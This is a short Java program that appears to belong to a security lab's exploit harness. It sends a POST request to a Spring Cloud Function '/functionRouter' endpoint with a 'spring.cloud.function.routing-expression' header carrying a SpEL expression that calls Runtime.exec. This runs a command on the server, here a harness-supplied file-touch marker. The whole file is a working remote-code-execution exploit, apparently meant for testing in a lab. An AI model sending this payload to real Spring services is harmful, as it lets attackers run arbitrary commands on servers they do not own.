import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    Attacker.post(
        "/functionRouter",
        "x",
        "Content-Type",
        "text/plain",
        "spring.cloud.function.routing-expression",
        "T(java.lang.Runtime).getRuntime().exec('" + Attacker.touch() + "')");
    Attacker.done();
  }
}
